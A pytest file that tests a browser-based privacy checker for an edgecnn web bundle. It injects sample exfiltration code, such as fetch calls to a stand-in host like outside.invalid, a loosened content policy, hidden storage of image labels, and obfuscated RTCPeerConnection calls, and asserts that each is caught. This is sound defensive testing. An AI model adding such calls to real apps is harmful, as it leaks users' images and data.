"""Each claim of a web bundle: checked in a real browser, and caught when it does not hold."""

from __future__ import annotations

import json
from collections.abc import Mapping
from pathlib import Path

import pytest

from edgecnn.errors import PackageError
from edgecnn.package.privacy.claims import Outcome
from edgecnn.package.privacy.web import Seen, judge_web
from edgecnn.package.privacy.web_check import check_web_bundle, sample_pictures
from edgecnn.package.privacy.web_session import (
    FolderSession,
    SingleSession,
    folder_session,
    single_session,
)
from edgecnn.package.web.contents import sealed
from edgecnn.package.web.single import single_page
from edgecnn.package.web.sources import WORKER, app_sources
from web.made import IDS, files_of, needs_browser

pytestmark = [pytest.mark.slow, needs_browser]

START = "await startApp();"
SEND = "\nsetTimeout(() => fetch('http://outside.invalid/picture').catch(() => 0), 500);\n"

NOTHING = FolderSession(
    browser="", asked=(), outside=(), attempts={}, arrived=(), answers={}, offline={}, refused=True,
    stored={"odd": [], "kept": {}, "databases": [], "local": [], "session": [], "cookies": "",
            "files": [], "caches": [], "headers": [], "buckets": []},
)  # fmt: skip


@pytest.fixture(scope="module")
def files() -> dict[str, bytes]:
    return files_of("resnet8")


def changed(files: Mapping[str, bytes], **texts: tuple[str, str]) -> dict[str, bytes]:
    """Return a bundle with some texts replaced, sealed anew; ``app_js`` means app.js."""
    worker = app_sources()["service-worker.js"]
    made = {**files, "service-worker.js": worker.encode()}
    for key, (old, new) in texts.items():
        name = key.replace("__", "-").replace("_", ".")
        before = made[name].decode()
        assert old in before, f"{name} has no {old}"
        made[name] = before.replace(old, new, 1).encode()
    return sealed(made)


@pytest.fixture(scope="module")
def single(files: dict[str, bytes]) -> SingleSession:
    return single_session(single_page(files), sample_pictures(files))


def judged(files: Mapping[str, bytes], single: SingleSession) -> dict[str, Outcome]:
    """Use a changed folder; the single file's session is the honest bundle's."""
    folder = folder_session(files, sample_pictures(files))
    return {one.id: one for one in judge_web(Seen(files=files, folder=folder, single=single))}


def test_an_open_policy_is_caught(files: dict[str, bytes], single: SingleSession) -> None:
    """Each way of sending that it leaves open arrives; and what the app itself sends."""
    page = files["index.html"].decode()
    policy = page.split('Policy" content="')[1].split('"')[0]
    opened = "default-src * 'unsafe-inline' 'unsafe-eval'; worker-src * blob:"
    bad = changed(files, index_html=(policy, opened), app_js=(START, SEND + START))
    found = judged(bad, single)
    assert found["sends-refused"].state == found["own-origin"].state == "broken"
    said = found["sends-refused"].evidence
    for way in ("fetch", "fetch with a body", "XMLHttpRequest", "beacon", "WebSocket",
                "EventSource", "image", "script", "module import", "style", "frame", "media",
                "object", "worker", "form"):  # fmt: skip
        assert f"{way} went out" in said
    # By UDP, which this browser does not send: nothing can arrive.
    assert "WebTransport was not refused by the policy" in said
    assert "http://outside.invalid/picture" in found["own-origin"].evidence


def test_what_is_stored_is_caught(files: dict[str, bytes], single: SingleSession) -> None:
    code = """
(await caches.open("x")).put("/kept.png", new Response("pixels"));
localStorage.setItem("last", "cat");
sessionStorage.setItem("last", "cat");
document.cookie = "last=cat";
indexedDB.open("frames");
await (await navigator.storage.getDirectory()).getFileHandle("frame", { create: true });
await navigator.storageBuckets.open("last");
(await caches.open("cat")).put("/app.css", new Response("", { headers: { "x-last": "cat" } }));
"""
    found = judged(changed(files, app_js=(START, code + START)), single)["images-not-stored"]
    assert found.state == "broken"
    for what in (
        "its cache holds kept.png", "local storage: last", "session storage: last",
        "cookies: last=cat", "database: frames", "file system: frame", "storage bucket: last",
        "a cache is called cat", "an answer is kept with x-last",
    ):  # fmt: skip
        assert what in found.evidence


def test_a_query_to_its_own_server_and_a_worker_that_sends_are_caught(
    files: dict[str, bytes], single: SingleSession
) -> None:
    """A page's policy does not bind its service worker; the proxy sees it all the same."""
    keep = "async function keepAll() {"
    sending = f"{keep}\n  fetch('http://outside.invalid/worker').catch(() => 0);"
    bad = changed(
        files,
        app_js=(START, "fetch('app.css?label=cat');\n" + START),
        service__worker_js=(keep, sending),
    )
    found = judged(bad, single)["own-origin"]
    assert found.state == "broken"
    assert "label=cat" in found.evidence
    assert "http://outside.invalid/worker" in found.evidence


def test_an_app_that_needs_its_server_is_caught(
    files: dict[str, bytes], single: SingleSession
) -> None:
    kept = "return kept ?? fetch(request);"
    found = judged(changed(files, service__worker_js=(kept, "return fetch(request);")), single)
    assert found["offline"].state == "broken"
    assert "did not start again" in found["offline"].evidence


def test_what_holds_is_held_and_a_single_file_that_may_connect_is_caught(
    files: dict[str, bytes],
) -> None:
    page = single_page(files).replace(b"connect-src 'none'", b"connect-src *", 1)
    checked = check_web_bundle(files, page)
    found = {one.id: one.state for one in checked.outcomes}
    assert found == {**dict.fromkeys(IDS, "held"), "single-file": "broken"}, checked.outcomes
    assert "fetch went out" in checked.of("broken")[0].evidence


def test_what_its_worker_sends_late_is_caught(
    files: dict[str, bytes], single: SingleSession
) -> None:
    """Also to a host that is a neighbour of the browser's own."""
    urls = ("http://outside.invalid/late", "http://storage.googleapis.com/late")
    late = "".join(f"fetch({url!r}).catch(() => 0); " for url in urls)
    code = f"setTimeout(() => setInterval(() => {{ {late} }}, 500), 5000);\n"
    keep = "async function keepAll() {"
    found = judged(changed(files, service__worker_js=(keep, code + keep)), single)["own-origin"]
    assert found.state == "broken"
    for url in urls:
        assert f"GET {url}" in found.evidence


def test_ways_out_that_are_no_requests_are_caught_in_use(
    files: dict[str, bytes], single: SingleSession
) -> None:
    """However their names are written."""
    code = 'new window["RTCPeer" + "Connection"](); window["op" + "en"]("about:blank");\n'
    found = judged(changed(files, app_js=(START, code + START)), single)
    assert found["no-other-way"].state == "held"
    assert found["own-origin"].state == "broken"
    assert "it asked elsewhere: used RTCPeerConnection" in found["own-origin"].evidence
    assert "it asked elsewhere: used open()" in found["own-origin"].evidence


def test_code_that_is_not_edgecnns_is_caught(
    files: dict[str, bytes], single: SingleSession
) -> None:
    other = sealed({
        **changed(files, app_js=(START, f"{START}\n"), app_css=("{", "{ ")), "more.js": b"",
        "vendor/ort.wasm.min.js": b"", "service-worker.js": app_sources()[WORKER].encode(),
    })  # fmt: skip
    for bad, names in (
        (other, ("app.css", "app.js", "more.js", "vendor/ort.wasm.min.js")),
        ({**files, WORKER: files[WORKER] + b"\n"}, (WORKER,)),
    ):
        (found,) = (one for one in judge_web(seen(bad, single)) if one.id == "own-files")
        assert found.state == "broken"
        assert found.evidence == "; ".join(f"{name} is not edgecnn's" for name in names)
    record = json.loads(files["privacy.json"])
    later = {**other, "privacy.json": json.dumps({**record, "made": "edgecnn 99, now"}).encode()}
    (found,) = (one for one in judge_web(seen(later, single)) if one.id == "own-files")
    assert found.state == "not checked"
    assert "made by edgecnn 99" in found.evidence


def seen(files: Mapping[str, bytes], single: SingleSession) -> Seen:
    return Seen(files=files, folder=NOTHING, single=single)


def test_an_app_that_does_not_start_is_no_bundle(files: dict[str, bytes]) -> None:
    worker = app_sources()["service-worker.js"].encode()
    bad = sealed({**files, "golden.json": b"{}", "service-worker.js": worker})
    with pytest.raises(PackageError, match="does not work in this machine's browser"):
        check_web_bundle(bad)


def test_without_a_browser_every_claim_says_that_it_was_not_checked(
    files: dict[str, bytes], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    checked = check_web_bundle(files)
    assert [one.id for one in checked.of("not checked")] == IDS
    assert {one.evidence for one in checked.outcomes} == {
        "Chromium is not installed (Debian, Ubuntu: sudo apt install chromium)"
    }
